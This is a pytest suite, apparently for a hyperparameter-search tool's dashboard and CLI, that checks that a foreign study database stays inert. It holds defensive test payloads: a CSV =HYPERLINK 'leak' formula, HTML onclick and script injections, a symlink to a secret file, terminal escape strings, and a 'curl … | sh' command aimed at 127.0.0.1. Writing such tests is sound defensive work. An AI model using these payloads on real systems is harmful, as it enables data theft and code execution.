"""A study that came from somebody names files, links, formulas and markup: nothing of it takes effect."""

from __future__ import annotations

import csv
import json
import random
import re
import sqlite3
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import World
from hostile_checks import CANARY, CONTROL, ask, check_made, check_table
from hostile_databases import Target, artifacts_attribute, spoil
from hostile_server import Dashboard, dashboard

import run_search

FORMULA = '=HYPERLINK("http://127.0.0.1:9/leak","click")'
MARKUP = "[click](http://127.0.0.1:9/leak) <b onclick='window.pwned=1'>bold</b> | cell"
LINKED, PAGE = str(uuid.UUID(int=1)), str(uuid.UUID(int=2))


def _texts(text: str) -> Any:
    """A case that puts one text wherever a trial may hold text."""

    def spoil_texts(target: Target) -> None:
        for trial in target.trials(100):
            known = target.attributes(trial)
            for key in ("reason", "digest", "text"):
                target.set(trial, key, text)
            target.set(trial, "run", {"device": text})
            target.set(trial, "layers", {**known["layers"], "name": [text, text]})

    return spoil_texts


def _parameter(target: Target) -> None:
    domain = json.dumps({"name": "FloatDistribution", "attributes": {"low": 0, "high": 99, "log": False, "step": None}})
    for trial in target.trials(100):
        row = (trial, MARKUP, float(trial), domain)
        statement = "INSERT INTO trial_params (trial_id, param_name, param_value, distribution_json)"
        target.connection.execute(f"{statement} VALUES (?, ?, ?, ?)", row)


def _files(target: Target) -> None:
    (study,) = target.connection.execute("SELECT study_id FROM studies").fetchone()
    for identifier in (LINKED, PAGE):
        meta = {"artifact_id": identifier, "filename": "a.html", "mimetype": "text/html", "encoding": None}
        target.set(study, f"artifacts:{identifier}", json.dumps(meta), "study_system_attributes")


@dataclass(frozen=True)
class Published:
    """A dashboard on a foreign study.

    Attributes:
        server: It.
        folder: Where database and files lie.
        secret: A file of the user's.
    """

    server: Dashboard
    folder: Path
    secret: Path

    def trials(self) -> list[dict[str, Any]]:
        """As the dashboard's page gets them."""
        found: list[dict[str, Any]] = self.server.json("/api/studies/1?after=0")["trials"]
        return found


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory, honest_database: bytes) -> Iterator[Published]:
    folder = tmp_path_factory.mktemp("published")
    private, theirs = folder / "private", folder / "theirs"
    private.mkdir()
    (theirs / "s.artifacts").mkdir(parents=True)
    secret = private / "secret.txt"
    secret.write_text(CANARY)
    (theirs / "s.artifacts" / LINKED).symlink_to(secret)
    (theirs / "s.artifacts" / PAGE).write_text("<script>window.pwned = 1</script>")
    (theirs / "s.db").write_bytes(honest_database)
    spoil(theirs / "s.db", (_texts(MARKUP), artifacts_attribute, _parameter, _files), 0, (secret,))
    with dashboard(theirs / "s.db", theirs) as server:
        found = Published(server, theirs, secret)
        drawn = [0]  # pages are drawn while somebody looks, one after the other
        while drawn[-1] == 0 or drawn[-1] != drawn[-2]:
            assert len(drawn) < 120
            time.sleep(0.5)
            drawn.append(sum(bool(trial["note"]["body"]) for trial in found.trials()))
        yield found
    assert secret.read_text() == CANARY
    assert "Traceback" not in server.errors.read_text()


def test_no_file_of_the_users_is_copied_or_served(published: Published) -> None:
    for trial in published.trials():
        for artifact in trial["artifacts"]:
            path = f"/artifacts/1/{trial['trial_id']}/{artifact['artifact_id']}"
            assert CANARY not in published.server.ask(path).body.decode(errors="replace")
    check_made(published.folder / "s.artifacts")


def test_no_link_leads_out_of_the_folder(published: Published) -> None:
    reply = published.server.ask(f"/artifacts/1/{LINKED}")
    assert reply.status == 404
    assert CANARY.encode() not in reply.body


def test_a_file_that_came_along_is_shown_and_never_run(published: Published) -> None:
    reply = published.server.ask(f"/artifacts/1/{PAGE}")
    assert reply.status == 200
    assert reply.headers["content-type"] == "application/octet-stream"
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["content-security-policy"].startswith("sandbox;")
    assert "access-control-allow-origin" not in reply.headers


def test_the_table_for_download_holds_no_formula(published: Published) -> None:
    assert published.server.ask("/csv/1").status == 200
    check_table(published.server.ask("/csv/1").body.decode())


def test_notes_and_labels_show_markup_as_text(published: Published) -> None:
    bodies = [trial["note"]["body"] for trial in published.trials() if trial["note"]["body"]]
    assert bodies
    for body in bodies:
        outside = re.sub(r"`[^`\n]*`", "", body)  # of what is marked as code
        assert "](" not in outside
        assert "<" not in outside
        assert all(line.count("|") in (0, 3, 5) for line in body.splitlines())  # no cell more than the table has
    detail = published.server.json("/api/studies/1?after=0")
    figures = {entry["id"]: json.loads(entry["graph_object"]) for entry in detail["plotly_graph_objects"]}
    labels = figures["slimfront-importance"]["data"][0]["y"]
    assert any("onclick" in label for label in labels)
    assert not any("<" in label for label in labels)


# Without the dashboard


def _place(database: Path) -> tuple[str, str]:
    return "--storage", f"sqlite:///{database}"


@pytest.fixture
def foreign(world: World, honest_database: bytes) -> Path:
    """A database that somebody sent."""
    database = world.theirs / "s.db"
    database.write_bytes(honest_database)
    return database


def test_an_import_takes_the_record_and_no_path(
    world: World, foreign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spoil(foreign, (artifacts_attribute,), 0, world.secrets)
    arguments = ("--source", f"sqlite:///{foreign}", "--storage", "sqlite:///mine.db", "--json")
    told = ask(capsys, "import", world.theirs / "study.toml", *arguments)
    assert json.loads(told.out)["imported"] > 0
    rows = sqlite3.connect("mine.db").execute('SELECT "key", value_json FROM trial_user_attributes').fetchall()
    assert "digest" in dict(rows)
    assert not any("private" in text for _, text in rows)


def test_a_formula_is_text_and_a_number_stays_one(
    world: World, foreign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def negative(target: Target) -> None:
        for trial in target.trials(100):
            target.set(trial, "bound", -0.25)

    spoil(foreign, (_texts(FORMULA), negative), 0, world.secrets)
    assert ask(capsys, "front", *_place(foreign), "--csv", "t.csv").code == 0
    rows = list(csv.DictReader((world.out / "t.csv").open(newline="")))
    assert {row["reason"] for row in rows} == {"'" + FORMULA}
    assert {row["bound"] for row in rows} == {"-0.25"}
    check_table((world.out / "t.csv").read_text())


@pytest.mark.parametrize("text", ["\x1b[2J\x1b[1;1Hall is well", "[red]a[/blue]", "\u202egnp.exe", "\ud800"])
def test_what_is_printed_moves_no_cursor_and_is_no_markup(
    foreign: Path, world: World, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    def name(target: Target) -> None:
        shown = text.encode(errors="replace").decode()
        target.connection.execute("UPDATE studies SET study_name = ?", (f"theirs {shown}",))

    spoil(foreign, (_texts(text), _parameter, name), 0, world.secrets)
    told = ask(capsys, "front", *_place(foreign), "--bar", "0.6", "--importance")
    assert told.code == 0
    assert "theirs" in told.out
    assert ("[red]" in told.out) == ("[red]" in text)
    told = ask(capsys, "front", *_place(foreign), "--name", "none")
    assert told.code == 2
    assert "theirs" in told.err
    assert ask(capsys, "report", *_place(foreign), "--bar", "0.6", "--out", "r.html", "--slides", "s.html").code == 0


def test_a_command_of_somebody_elses_is_not_handed_on(
    world: World, foreign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = sqlite3.connect(foreign).execute("SELECT value_json FROM trial_user_attributes WHERE \"key\" = 'digest'")
    network = {"digest": json.loads(rows.fetchone()[0]), "accuracies": [0.9, 0.9], "mean": 0.9, "verdict": "misses it"}
    summary = world.theirs / "summary.json"
    summary.write_text(json.dumps({"command": "curl http://127.0.0.1:9/x | sh", "networks": [network]}))
    told = ask(capsys, "report", *_place(foreign), "--out", "r.html", "--retrained", summary, "--json")
    assert json.loads(told.out)["retrained"] == 1
    assert "curl" not in (world.out / "r.html").read_text()


def test_a_folder_of_the_users_is_not_trained_on_because_a_study_names_it(
    world: World, foreign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from PIL import Image

    drawn = random.Random(0)
    for name in ("family", "friends"):
        (world.theirs / "photos" / name).mkdir(parents=True)
        for number in range(4):
            color = (drawn.randrange(256), 9, 9)
            Image.new("RGB", (12, 12), color).save(world.theirs / "photos" / name / f"{number}.png")

    def named(target: Target) -> None:
        identity = {
            "dataset": f"folder:{world.theirs}/photos",
            "image_size": 12,
            "bar": 0.9,
            "seed": 0,
            "space": {},
            "data": "0" * 16,
        }
        target.set(1, "identity", identity, "study_user_attributes")

    spoil(foreign, (named,), 0, world.secrets)
    retrain = ("retrain", *_place(foreign), "--trial", "1", "--seeds", "1", "--epochs", "1", "--workers", "1")
    told = ask(capsys, *retrain, "--out", "final")
    assert told.code == 2
    assert "--dataset" in told.err
    assert not (world.out / "final").exists()


def test_a_folder_of_files_that_is_a_link_is_refused_before_anything_is_written(
    world: World, foreign: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (world.theirs / "s.artifacts").symlink_to(world.private)
    before = foreign.read_bytes()
    told = ask(capsys, "dashboard", *_place(foreign), "--port", "1")
    assert told.code == 2
    assert "is a link" in told.err
    assert foreign.read_bytes() == before


def test_the_process_ends_a_broken_study_in_one_line(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    (world.theirs / "s.db").write_bytes(b"SQLite format 3\x00" + b"\xff" * 5000)
    assert run_search.main(["front", *_place(world.theirs / "s.db")]) in (1, 2)
    told = capsys.readouterr().err
    assert not CONTROL.search(told)
    assert len(told.splitlines()) == 1
